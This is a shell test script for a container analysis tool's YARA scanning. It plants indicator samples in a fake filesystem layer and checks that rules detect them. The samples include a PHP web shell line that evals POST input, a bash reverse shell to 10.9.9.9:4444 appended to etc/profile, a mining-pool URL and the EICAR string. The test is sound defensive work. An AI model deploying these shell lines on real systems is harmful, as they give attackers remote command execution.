#!/bin/bash
# t1101-analyze-yara: YARA inside `contain analyze` on a bag made with mkbag
# (a layer with planted files holding indicators) and the fixture image: the
# shipped rules hit the planted files (the same rules as the yara CLI on the
# same files, the same string offsets); only added and modified files are
# scanned; --no-yara; a user rule via --rules; a broken --rules file
# reported with its line while the rest run; --yara-max-bytes; the cache.
. "$(dirname "$0")/../lib/lib.sh"
need_cmd jq tar yara
command -v mkbag >/dev/null || skip_all "no mkbag test tool (make test-bins)"
IMG=$CONTAIN_TOP/fixtures/cache/oci
ROOTFS=$CONTAIN_TOP/fixtures/cache/rootfs
[ -d "$IMG" ] && [ -d "$ROOTFS/etc" ] || skip_all "no fixture image (run fixtures/build.sh)"
RULES=$CONTAIN_TOP/yara-rules
ls "$RULES"/*.yar >/dev/null 2>&1 || skip_all "no shipped rules in yara-rules/"
cd "$T_DIR" || exit 1

# --- the bag: added files with indicators, a modified one, clean ones
mkdir -p L/tmp/.cache L/var/www/html L/etc L/opt pay/fs
printf 'config\n{"url": "stratum+tcp://pool.example.test:3333", "user": "x"}\n' >L/tmp/.cache/config.json
printf '<?php\n// upload\n@eval($_POST["cmd"]);\n?>\n' >L/var/www/html/up.php
# the EICAR string, written so that this script is not one
printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >L/opt/eicar.com
# a file of the image, modified: an indicator appended
{ cat "$ROOTFS/etc/profile"; echo 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'; } >L/etc/profile
# clean: added, and one unchanged from the image (not scanned)
printf 'hello\n' >L/opt/readme.txt
cp -p "$ROOTFS/etc/hostname" L/etc/hostname
# past --yara-max-bytes 1M below: the indicator after 2 MiB
{ head -c $((2 << 20)) /dev/zero | tr '\0' 'a'; echo ' USER-MARKER-FAR'; } >L/opt/big.bin
echo 'USER-MARKER-NEAR' >L/opt/near.txt
tar --format=pax --numeric-owner --owner=0 --group=0 -C L -cf pay/fs/upper.tar .
echo '{"collector":"fslayer","layer":"upperdir","whole_root":false,"entries":[]}' >pay/fs/files.json
mkbag -o bag pay 2>/dev/null || _t_bail "mkbag could not make the test bag"

yara_ids() { jq -r '.findings[] | select(.id | startswith("yara.")) | "\(.evidence.rule) \(.path)"' "$1" | sort; }

section "the shipped rules"
run "$CONTAIN" analyze bag --image "$IMG" -o r1 --fail-on none
is "$RC" 0 "analyze: exit 0"
ok "report.json written" test -s r1/report.json
ok "the web shell: a yara finding with its path" \
	jq -e '[.findings[] | select(.id == "yara.webshell-php-request-exec" and .path == "var/www/html/up.php")] | length == 1' r1/report.json
ok "the miner config: a yara finding with its path" \
	jq -e '[.findings[] | select(.id == "yara.miner-stratum-url" and .path == "tmp/.cache/config.json")] | length == 1' r1/report.json
ok "the EICAR file: yara.EICAR_Test_String" \
	jq -e '[.findings[] | select(.id == "yara.eicar-test-string" and .path == "opt/eicar.com")] | length == 1' r1/report.json
ok "the modified etc/profile is scanned: a reverse-shell rule hits" \
	jq -e '[.findings[] | select((.id | startswith("yara.")) and .path == "etc/profile" and .evidence.change == "modified")] | length >= 1' r1/report.json
ok "finding fields from the rule's meta (severity, attack, title)" \
	jq -e '.findings[] | select(.id == "yara.miner-stratum-url") | (.severity | IN("critical","high","medium","low","info")) and (.attack != null) and (.title == (.evidence.meta.title // ("YARA Miner_Stratum_URL: " + .evidence.meta.description)))' r1/report.json
ok "evidence: member, sha256, rule, namespace, strings" \
	jq -e '.findings[] | select(.id == "yara.miner-stratum-url") | .evidence | .member == "data/fs/upper.tar" and (.sha256 | length == 64) and .rule == "Miner_Stratum_URL" and .namespace == "miners" and (.strings | length >= 1)' r1/report.json
# the offset of the URL in the file, as grep -b gives it
want=$(grep -abo 'stratum+tcp://' L/tmp/.cache/config.json | head -1 | cut -d: -f1)
got=$(jq -r '[.findings[] | select(.id == "yara.miner-stratum-url") | .evidence.strings[].offset] | min' r1/report.json)
is "$got" "$want" "the string's offset is the byte offset in the file"
ok "the section: rules, scanned, hits" \
	jq -e '.analyses.yara | .rules.count > 10 and .rules.cache == "off" and .hits >= 4 and (.errors | length == 0)' r1/report.json
# added or modified regular files: 7 (hostname is unchanged)
is "$(jq '.analyses.yara.scanned.files' r1/report.json)" 7 "only the added and modified files are scanned"
ok "the terminal summary shows a yara finding" grep -q 'yara\.' <<<"$OUT"
ok "finding ids: yara.<rule name> lowercased, _ as -; evidence.rule the name" \
	jq -e '[.findings[] | select(.id == "yara.miner-stratum-url" and .evidence.rule == "Miner_Stratum_URL")] | length == 1' r1/report.json

# (the default --fail-on: the schema does not know fail_on "none")
"$CONTAIN" analyze bag --image "$IMG" -o rv >/dev/null 2>&1
if python3 -c 'import jsonschema' 2>/dev/null; then
	run python3 -c '
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
doc = json.load(open(sys.argv[2]))
for e in list(jsonschema.Draft202012Validator(schema).iter_errors(doc))[:10]:
    print("/".join(map(str, e.path)), e.message[:200])
' "$CONTAIN_TOP/docs/report-schema.json" rv/report.json
	is "$OUT" "" "report.json with yara findings validates against docs/report-schema.json"
else
	skip "report.json validates against docs/report-schema.json" "no python3-jsonschema"
fi

section "against the yara command-line tool"
# the files as the layer has them; the CLI on the same rules, same files
yara -r -w "$RULES"/*.yar L 2>cli.err | sed 's| L/| |' | sort >cli.txt
yara_ids r1/report.json >contain.txt
ok "the yara CLI ran and hit something" test -s cli.txt
is "$(diff -u cli.txt contain.txt)" "" "the same rules hit the same files as the yara CLI"
# string offsets: yara -s prints 0xOFF:$id: data
yara -s -w "$RULES/miners.yar" L/tmp/.cache/config.json 2>/dev/null |
	sed -n 's/^0x\([0-9a-f]*\):\(\$[A-Za-z0-9_]*\):.*/\1 \2/p' | while read -r h id; do echo "$((16#$h)) $id"; done | sort -u >cli-off.txt
jq -r '.findings[] | select(.path == "tmp/.cache/config.json" and .evidence.namespace == "miners") | .evidence.strings[] | "\(.offset) \(.id)"' r1/report.json | sort -u >contain-off.txt
ok "the CLI gave string offsets" test -s cli-off.txt
is "$(diff -u cli-off.txt contain-off.txt)" "" "the same string offsets as yara -s"

section "--no-yara"
run "$CONTAIN" analyze bag --image "$IMG" -o r2 --fail-on none --no-yara
is "$RC" 0 "--no-yara: exit 0"
is "$(yara_ids r2/report.json)" "" "--no-yara: no yara finding"
is "$(jq -r '.analyses.yara.skipped' r2/report.json)" "--no-yara" "--no-yara: the section says so"
run "$CONTAIN" analyze bag --image "$IMG" -o r2b --no-yara --rules x.yar
is "$RC" 2 "--no-yara with --rules: exit 2"

section "user rules, a broken rule file"
mkdir urules
cat >urules/mine.yar <<'EOF'
rule User_Marker
{
    meta:
        severity = "critical"
        title = "The user marker file"
        description = "the user's marker"
        attack = "T1027"
    strings:
        $m = "USER-MARKER-NEAR"
    condition:
        $m
}
EOF
cat >urules/broken.yar <<'EOF'
rule Broken_One
{
    strings:
        $a = "abc"
    condition:
        $a and and
}
EOF
run "$CONTAIN" analyze bag --image "$IMG" -o r3 --fail-on none --rules urules/mine.yar
is "$RC" 0 "--rules FILE: exit 0"
ok "the user rule hits its file with the meta's severity" \
	jq -e '[.findings[] | select(.id == "yara.user-marker" and .path == "opt/near.txt" and .severity == "critical" and .attack == "T1027" and .title == "The user marker file")] | length == 1' r3/report.json
ok "the shipped rules still run beside it" \
	jq -e '[.findings[] | select(.id == "yara.miner-stratum-url")] | length == 1' r3/report.json
run "$CONTAIN" analyze bag --image "$IMG" -o r4 --fail-on none --rules urules
is "$RC" 0 "--rules DIR with a broken file: exit 0 (the rest runs)"
like "$ERR" "broken.yar' line 6: syntax error" "the broken file named on the terminal with its line"
ok "the broken file in the report: file, line, message" \
	jq -e '.analyses.yara.errors[] | select(.kind == "compile" and (.file | endswith("urules/broken.yar")) and .line == 6 and (.message | test("syntax error")))' r4/report.json
ok "the good user rule of the same dir still hits" \
	jq -e '[.findings[] | select(.id == "yara.user-marker")] | length == 1' r4/report.json
ok "the shipped rules still hit" \
	jq -e '[.findings[] | select(.id == "yara.webshell-php-request-exec")] | length == 1' r4/report.json
yara -w urules/broken.yar /dev/null 2>cli-broken.err
like "$(cat cli-broken.err)" "broken.yar\(6\): syntax error" "the yara CLI reports the same line"
run "$CONTAIN" analyze bag --image "$IMG" -o r5 --rules urules/missing.yar
isnt_zero=$([ "$RC" -ne 0 ] && echo yes)
is "$isnt_zero" yes "a --rules path that does not exist: refused"
like "$ERR" "missing.yar" "a missing --rules path: named"
run "$CONTAIN" analyze bag --image "$IMG" -o r6 --fail-on none --no-shipped-rules --rules urules/mine.yar
is "$(yara_ids r6/report.json)" "User_Marker opt/near.txt" "--no-shipped-rules: only the user's rules"

section "--yara-max-bytes, --yara-timeout"
cat >urules/far.yar <<'EOF'
rule User_Far { strings: $f = "USER-MARKER-FAR" condition: $f }
EOF
run "$CONTAIN" analyze bag --image "$IMG" -o r7 --fail-on none --no-shipped-rules --rules urules/far.yar --yara-max-bytes 1M
is "$(yara_ids r7/report.json)" "" "a file larger than --yara-max-bytes: its indicator past the bound not seen"
ok "the cut file is noted" jq -e '.analyses.yara.scanned.truncated == 1 and ([.analyses.yara.notes[] | select(test("opt/big.bin"))] | length == 1)' r7/report.json
run "$CONTAIN" analyze bag --image "$IMG" -o r8 --fail-on none --no-shipped-rules --rules urules/far.yar
is "$(yara_ids r8/report.json)" "User_Far opt/big.bin" "the default bound (64M) scans it whole"
run "$CONTAIN" analyze bag --image "$IMG" -o r9 --yara-timeout 0
is "$RC" 2 "--yara-timeout 0: exit 2"
run "$CONTAIN" analyze bag --image "$IMG" -o r9 --yara-max-bytes lots
is "$RC" 2 "--yara-max-bytes lots: exit 2"

section "--cache-dir"
run "$CONTAIN" analyze bag --image "$IMG" -o c1 --fail-on none --cache-dir cache
is "$(jq -r '.analyses.yara.rules.cache' c1/report.json)" miss "first run: a miss"
is "$(stat -c %a cache)" 700 "the cache dir is 0700"
is "$(stat -c %a cache/yara-*.rules)" 600 "the cache file is 0600"
run "$CONTAIN" analyze bag --image "$IMG" -o c2 --fail-on none --cache-dir cache
is "$(jq -r '.analyses.yara.rules.cache' c2/report.json)" hit "second run: a hit"
is "$(yara_ids c2/report.json)" "$(yara_ids c1/report.json)" "a hit gives the same findings"
printf 'garbage' >>cache/yara-*.rules
run "$CONTAIN" analyze bag --image "$IMG" -o c3 --fail-on none --cache-dir cache
is "$(jq -r '.analyses.yara.rules.cache' c3/report.json)" miss "a corrupt cache: a miss, rebuilt"
is "$(yara_ids c3/report.json)" "$(yara_ids c1/report.json)" "and the same findings"

done_testing
